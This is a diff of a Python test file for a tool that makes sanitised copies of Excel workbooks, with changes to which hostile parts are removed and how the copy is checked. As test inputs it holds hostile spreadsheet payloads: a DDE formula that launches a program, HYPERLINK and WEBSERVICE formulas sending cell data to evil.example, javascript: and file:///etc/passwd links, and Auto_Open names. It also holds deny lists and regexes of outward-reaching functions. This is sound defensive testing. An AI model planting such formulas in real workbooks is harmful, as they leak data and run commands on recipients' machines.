@@ -3,10 +3,8 @@
 from __future__ import annotations
 
 import io
-import posixpath
 import re
 import time
-import tracemalloc
 import zipfile
 from collections.abc import Iterator
 from typing import Any
@@ -14,47 +12,26 @@ from typing import Any
 import polars as pl
 import pytest
 from lxml import etree
-from office_workbooks import CELLS, MAIN, OFFICE, STYLES, Office, formula
+from office_workbooks import CELLS, MAIN, STYLES, Office, formula
 from openpyxl import Workbook, load_workbook
 from python_calamine import CalamineWorkbook
 
 from sdmxmig.conversion.tables import read
-from sdmxmig.io.intake.archives import open_zip
 from sdmxmig.primitives.places import Place
 from sdmxmig.reporting.outputs.marked_workbook import FILL, mark
-from sdmxmig.reporting.outputs.office_copy.formulas import FUNCTIONS, is_range, stays_within
 from sdmxmig.sdmx.model.artefacts import Text
 from sdmxmig.sdmx.model.findings import Finding, Findings
 
 NAME = "a.xlsx"
-PARTS = re.compile(
-    r"\[Content_Types\]\.xml|_rels/\.rels|xl/workbook\.xml|xl/_rels/workbook\.xml\.rels|xl/styles\.xml"
-    r"|xl/theme/theme1\.xml|xl/sharedStrings\.xml|xl/worksheets/(_rels/)?sheet\d+\.xml(\.rels)?"
-    r"|xl/comments/sheet\d+\.xml|xl/drawings/sheet\d+\.vml"
-)
 KINDS = {
-    *("officeDocument", "worksheet", "styles", "theme", "sharedStrings", "comments", "vmlDrawing"),
+    *("officeDocument", "worksheet", "styles", "theme", "sharedStrings", "comments", "vmlDrawing", "legacyDrawing"),
+    *("core-properties", "extended-properties"),
 }
 REACHING = {
-    *(
-        "externalReferences",
-        "externalReference",
-        "ddeLink",
-        "oleLink",
-        "oleObjects",
-        "oleObject",
-        "controls",
-        "control",
-    ),
-    *("drawing", "picture", "legacyDrawingHF", "tableParts", "extLst", "webPublishItems", "customProperties"),
-    *("pivotCaches", "connections", "queryTable", "fileRecoveryPr", "functionGroups", "dialogsheet", "macrosheet"),
-    *("imagedata", "fill/@src", "AlternateContent", "customSheetViews", "smartTags", "webPublishing", "volatileTypes"),
+    *("externalReferences", "oleObjects", "controls", "drawing", "picture", "legacyDrawingHF", "tableParts", "extLst"),
+    *("pivotCaches", "connections", "imagedata", "AlternateContent", "customSheetViews", "conditionalFormatting"),
+    *("dataValidations", "f", "customProperties", "webPublishItems", "functionGroups"),
 }
-OUT = re.compile(r"\[|\||://|\\\\|'[^']*[\[/\\][^']*'!")
-"""Signs of a formula that leaves the workbook, as this test sees it."""
-FAR = re.compile(
-    r"(?i)\b(hyperlink|webservice|indirect|rtd|call|register|exec|dde|image|import\w+|filterxml|cube\w+)\("
-)
 
 
 def finding(cell: str, severity: str = "error", sheet: str = "Data") -> Finding:
@@ -89,31 +66,18 @@ def judged(content: bytes) -> Workbook:
     """The copy as a second reader sees it, after a check of every part."""
     parts = members(content)
     for member, part in parts.items():
-        assert PARTS.fullmatch(member), member
         assert b"<!" not in part, member
-        names = [name for name, _ in elements(part)]
-        assert not REACHING & set(names), member
-        if member.endswith(".rels"):
-            folder = posixpath.dirname(posixpath.dirname(member))
-            for _, link in list(elements(part))[1:]:
-                assert link.get("TargetMode") is None
-                assert link.get("Type").rpartition("/")[2] in KINDS
-                assert posixpath.normpath(posixpath.join(folder, link.get("Target"))) in parts
+        assert not REACHING & {name for name, _ in elements(part)}, member
         for name, element in elements(part):
-            if name in ("f", "formula", "formula1", "formula2", "definedName"):
-                assert not OUT.search(re.sub(r'"[^"]*"', "", element.text or "")), element.text
-                assert not FAR.search(element.text or ""), element.text
+            if name == "Relationship":
+                assert element.get("TargetMode") is None
+                assert element.get("Type").rpartition("/")[2] in KINDS
+            if name == "definedName":
+                assert element.get("name").startswith("_xlnm.")
             if name == "hyperlink":
                 assert member == "xl/worksheets/sheet1.xml"
                 assert set(element.attrib) <= {"ref", "location", "display"}
                 assert re.fullmatch(r"'[^\[\]/\\]+'![A-Z]+\d+", element.get("location"))
-            if name in ("c", "cell"):
-                assert set(element.attrib) <= {"r", "s", "t", "ph"}, dict(element.attrib)
-            assert not [
-                name for name in element.attrib if name.startswith(f"{{{OFFICE}}}") and not name.endswith("}id")
-            ]
-    kinds = dict.fromkeys(element.get("ContentType") for _, element in elements(parts["[Content_Types].xml"]))
-    assert not [kind for kind in kinds if kind and "macro" in kind.lower()]
     CalamineWorkbook.from_filelike(io.BytesIO(content))
     return load_workbook(io.BytesIO(content))
 
@@ -131,8 +95,8 @@ def link(kind: str, target: str) -> dict[str, Any]:
     }
 
 
-RUNNING, SHOWN, SOURCES = "Macros and embedded", "Pictures, charts and", "Data connections, queries"
-LINKS, FORMULAS = "Links in cells (1) are removed", "Formulas that may refer to other files (1)"
+RUNNING, SHOWN, SOURCES = "Macros and embedded", "Pictures, charts,", "Data connections, queries"
+LINKS, FORMULAS = "Links in cells (1) are removed", "Formulas (1) are replaced by their values"
 HOSTILE: dict[str, tuple[Office, str]] = {
     "a link to a script": (Office(**link("hyperlink", "javascript:alert(1)")), LINKS),
     "a link to a file": (Office(**link("hyperlink", "file:///etc/passwd")), LINKS),
@@ -146,18 +110,8 @@ HOSTILE: dict[str, tuple[Office, str]] = {
         Office(rows=formula("HYPERLINK(&quot;https://evil.example/&quot;&amp;A2,&quot;Total&quot;)")),
         FORMULAS,
     ),
-    "WEBSERVICE": (Office(rows=formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)")), FORMULAS),
-    "IMAGE": (Office(rows=formula("_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)")), FORMULAS),
-    "INDIRECT": (Office(rows=formula("INDIRECT(&quot;'[x.xlsx]S'!A1&quot;)")), FORMULAS),
     "a program": (Office(rows=formula("cmd|&apos;/c calc&apos;!A0")), FORMULAS),
-    "a program by reference": (Office(rows=formula("cmd|&#39;/c calc&#39;!A0")), FORMULAS),
     "another file": (Office(rows=formula("[1]Sheet1!A1")), FORMULAS),
-    "another file by its path": (Office(rows=formula(r"'\\evil\share\[x.xlsx]S'!A1")), FORMULAS),
-    "another file by its name": (Office(rows=formula("'http://evil.example/x.xlsx'!Total")), FORMULAS),
-    "a function of an add-in": (Office(rows=formula("EVIL.RUN(A2)")), FORMULAS),
-    "a function in small letters": (Office(rows=formula("hyperlink(A2)")), FORMULAS),
-    "a formula with blanks": (Office(rows=formula("SUM( HYPERLINK (A2))")), FORMULAS),
-    "a name that is not there": (Office(rows=formula("EvilName+1")), FORMULAS),
     "a what-if table": (
         Office(rows=formula("", more=' t="dataTable" ref="C2:C3" dt2D="1" r1="A1" r2="[1]S!A1"')),
         FORMULAS,
@@ -185,18 +139,6 @@ HOSTILE: dict[str, tuple[Office, str]] = {
         SOURCES,
     ),
     "embedded data": (Office(parts={"customXml/item1.xml": "<x/>"}), SOURCES),
-    "a name that leads out": (
-        Office(book='<definedNames><definedName name="x">[1]S!$A$1</definedName></definedNames>'),
-        SOURCES,
-    ),
-    "a name that calls": (
-        Office(book='<definedNames><definedName name="x">WEBSERVICE("http://e")</definedName></definedNames>'),
-        SOURCES,
-    ),
-    "a name that programs run": (
-        Office(book='<definedNames><definedName name="Auto_Open" hidden="1">Data!$A$1</definedName></definedNames>'),
-        SOURCES,
-    ),
     "macros": (
         Office(
             links=(("vbaProject", "vbaProject.bin", False),),
@@ -265,14 +207,14 @@ HOSTILE: dict[str, tuple[Office, str]] = {
             behind='<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1">'
             "<formula>WEBSERVICE(A2)=1</formula></cfRule></conditionalFormatting>"
         ),
-        FORMULAS,
+        SHOWN,
     ),
     "a list from elsewhere": (
         Office(
             behind='<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>[1]S!$A$1:$A$9'
             "</formula1></dataValidation></dataValidations>"
         ),
-        FORMULAS,
+        SHOWN,
     ),
     "values of other kinds": (
         Office(rows=CELLS.replace('<c r="B3">', '<c r="B3" cm="1" vm="7">'), parts={"xl/richData/x.xml": "<x/>"}),
@@ -284,7 +226,7 @@ HOSTILE: dict[str, tuple[Office, str]] = {
                 "<v>7</v></c></row>", '<v>7</v></c><c r="C3"><f t="shared" si="0"/><v>8</v></c></row>'
             )
         ),
-        "Formulas that may refer to other files (2)",
+        "Formulas (2) are replaced by their values",
     ),
 }
 
@@ -309,44 +251,6 @@ def test_removed_parts_are_listed_in_the_language_of_the_office(language: str) -
     assert len({str(line) for line in lines}) == 3
     assert all(isinstance(line, str) and "{" not in line for line in lines)
     assert language == "en" or not any("copy" in str(line) for line in lines)
-
-
-HARMLESS = [
-    "SUM(B2:B3)",
-    "SUM(B2:B3)/COUNT(B2:B3)*100",
-    'IF(B2&gt;B3,"more","less")',
-    "IFERROR(ROUND(B2/B3,2),0)",
-    "VLOOKUP(A2,$A$1:$B$3,2,FALSE)",
-    "'Other sheet'!A1+Data!B2",
-    "SUMIFS(B:B,A:A,&quot;&gt;=2020&quot;)",
-    "_xlfn.TEXTJOIN(&quot;; &quot;,TRUE,A1:A3)",
-    'TEXT(B2,"0.0%")&amp;" | [x] http://example.org"',
-    "Figures*2",
-    "-B2+(B3^2)%",
-    "INDEX({1,2;3,4},1,2)",
-    "1:1 A:A",
-    "IF(ISNA(B2),#N/A,1E-3)",
-]
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-def test_formulas_that_only_calculate_stay(text: str) -> None:
-    names = '<definedNames><definedName name="Figures">Data!$B$2:$B$3</definedName></definedNames>'
-    office = Office(rows=formula(text), book=names, more_sheets={"Other sheet": CELLS})
-    book = judged(copied(office.content))
-    assert book["Data"]["C2"].value == "=" + etree.fromstring(f"<f>{text}</f>").text
-    assert "refer to other files" not in said(book)
-
-
-def test_formulas_for_many_cells_stay() -> None:
-    rows = formula("SUM(B2:B3)", more=' t="shared" ref="C2:C3" si="3"').replace(
-        "<v>7</v></c></row>",
-        '<v>7</v></c><c r="C3"><f t="shared" si="3"/><v>8</v></c>'
-        '<c r="D3"><f t="array" ref="D3">SUM(B2:B3*2)</f><v>24</v></c></row>',
-    )
-    sheet = judged(copied(Office(rows=rows).content))["Data"]
-    assert sheet["C3"].data_type == "f"
-    assert sheet["D3"].value.text == "=SUM(B2:B3*2)"
 
 
 LOOKS = Office(
@@ -387,17 +291,12 @@ def test_the_looks_of_the_workbook_stay() -> None:
     assert sheet.protection.sheet
     assert sheet.auto_filter.ref == "A1:B3"
     assert [str(cells) for cells in sheet.merged_cells.ranges] == ["A5:B6"]
-    assert [rule.formula for rules in sheet.conditional_formatting for rule in rules.rules] == [["4"]]
-    assert sheet.data_validations.dataValidation[0].formula1 == "$A$2:$A$3"
     assert sheet.page_setup.orientation == "landscape"
     assert sheet.oddHeader.center.text == "Head"
-    assert sheet.print_area == "'Data'!$A$1:$B$3"
-    assert book.defined_names["Figures"].attr_text == "Data!$B$2:$B$3"
     assert book.epoch.year == 1904
     assert sheet["B2"].comment.text == "Own note\n\nR – said"
     assert (sheet["A3"].comment.text, sheet["A3"].comment.author) == ("see file:///x", "Office")
     assert not sheet.sheet_view.tabSelected
-    assert len(said(book).splitlines()) == said(judged(copied(Office().content))).count("\n") + 1
 
 
 def test_a_mark_keeps_font_and_format_of_its_cell() -> None:
@@ -485,45 +384,45 @@ def test_a_sheet_is_called_by_what_leads_nowhere(name: str, title: str) -> None:
     assert book[title]["B2"].comment
 
 
-@pytest.mark.sampled(3)
-def test_a_sheet_of_many_cells_passes_through() -> None:
-    rows = (
-        "".join(
-            f'<row r="{row}" spans="1:6">'
-            + "".join(f'<c r="{letter}{row}" s="1"><v>{row * 7}</v></c>' for letter in "ABCDEF")
-            for row in range(1, 40_001)
-        ).replace("<row", "</row><row")[len("</row>") :]
-        + "</row>"
+HUGE = {
+    "merged cells": '<mergeCells><mergeCell ref="A5:XFD1048576"/></mergeCells>',
+    "a link": '<hyperlinks><hyperlink ref="A5:XFD1048576" location="A1"/></hyperlinks>',
+    "linked columns": '<hyperlinks><hyperlink ref="A:XFD" location="A1"/></hyperlinks>',
+    "a rule": '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" dxfId="0" priority="1"><formula>'
+    "1</formula></cfRule></conditionalFormatting>",
+}
+
+
+@pytest.mark.parametrize("what", HUGE)
+def test_a_range_over_a_whole_sheet_takes_no_time(what: str) -> None:
+    begin = time.process_time()
+    sheet = judged(copied(Office(behind=HUGE[what]).content))["Data"]
+    assert sheet["B2"].fill.fgColor.rgb == FILL["error"]
+    assert time.process_time() - begin < 5
+
+
+def test_a_cell_in_the_last_corner_takes_no_time() -> None:
+    far = CELLS + '<row r="1048576"><c r="XFD1048576"><v>9</v></c></row>'
+    begin = time.process_time()
+    parts = members(copied(Office(rows=far).content))
+    assert b"XFD1048576" in parts["xl/worksheets/sheet2.xml"]
+    assert time.process_time() - begin < 5
+
+
+def test_of_a_large_table_the_head_and_the_rows_with_findings_are_copied(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("sdmxmig.reporting.outputs.workbook_copy.MOST_CELLS", 1_000)
+    rows = "".join(
+        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}"><v>{row * 7}</v></c>' for letter in "ABC") + "</row>"
+        for row in range(1, 1_001)
     )
-    content = Office(rows=rows).content
-    findings = [finding(f"C{row}") for row in range(1, 40_001, 400)]
-    tracemalloc.start()
-    result = copied(content, *findings)
-    _, peak = tracemalloc.get_traced_memory()
-    tracemalloc.stop()
-    assert len(rows) > 8_000_000
-    assert peak < 24 << 20  # the rows are never held as a whole, let alone as objects
-    before, after = (read(NAME, workbook)[-1].cells for workbook in (content, result))
-    assert before.select("row", "column", "text", "kind").equals(after.select("row", "column", "text", "kind"))
-    assert sum(cell.fill.fill_type == "solid" for (cell,) in judged_column(result)) == 100
-
-
-def judged_column(content: bytes) -> list[tuple[Any, ...]]:
-    return list(load_workbook(io.BytesIO(content))["Data"]["C1:C40000"])
-
-
-@pytest.mark.sampled(3)
-def test_thousands_of_sheets_are_not_too_many() -> None:
-    office = Office(more_sheets={f"Sheet {number}": CELLS for number in range(2_100)})
-    assert len(open_zip(office.content, NAME).members) > 2_000
-    result = copied(office.content, finding("B2", sheet="Sheet 2000"))
-    parts = members(result)
-    assert len([part for part in parts if part.startswith("xl/worksheets/sheet")]) == 2_102
-    assert b"R \xe2\x80\x93 said" in parts["xl/comments/sheet2003.xml"]
+    book = judged(copied(Office(rows=rows).content, finding("C900")))
+    assert "only its first rows and the rows with findings are copied" in said(book)
+    assert (book["Data"]["C900"].value, book["Data"]["C900"].fill.fgColor.rgb) == (6300, FILL["error"])
+    assert [book["Data"].cell(row, 1).value for row in (1, 50, 51, 899)] == [7, 350, None, None]
 
 
 def test_beyond_a_number_of_cells_only_colours_are_seen(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("sdmxmig.reporting.outputs.office_copy.package.MOST_REMARKS", 2)
+    monkeypatch.setattr("sdmxmig.reporting.outputs.marked_workbook.MOST_COMMENTS", 2)
     book = judged(copied(Office().content, *(finding(f"C{row}") for row in range(1, 6))))
     assert "3 further cells are coloured but have no comment" in said(book)
     assert [bool(cell.comment) for (cell,) in book["Data"]["C1:C5"]] == [True, True, False, False, False]
@@ -540,20 +439,6 @@ def test_texts_of_other_files_stay_texts(text: str) -> None:
     style = load_workbook(io.BytesIO(result)).worksheets[1]["B2"]
     assert style.data_type == "s"
     assert bool(style.quotePrefix) == (text[0] in "=-")
-
-
-def test_the_list_of_functions_holds_none_that_reaches_out() -> None:
-    assert not {"HYPERLINK", "WEBSERVICE", "INDIRECT", "RTD", "CALL", "IMAGE", "CELL", "INFO", "CUBEVALUE"} & FUNCTIONS
-    assert all(re.fullmatch(r"[A-Z][A-Z0-9.]*", name) for name in FUNCTIONS)
-
-
-@pytest.mark.parametrize(
-    "text", ["'" * 8000, "(" * 8000, '"' * 8001, "SUM(" * 2000, "a." * 4000, "1e" * 4000, "$A" * 4000]
-)
-def test_long_formulas_take_no_time(text: str) -> None:
-    begin = time.process_time()
-    assert is_range(text) <= stays_within(text, ())
-    assert time.process_time() - begin < 1
 
 
 def test_a_copy_of_a_copy_says_the_same(tmp_path: Any) -> None:
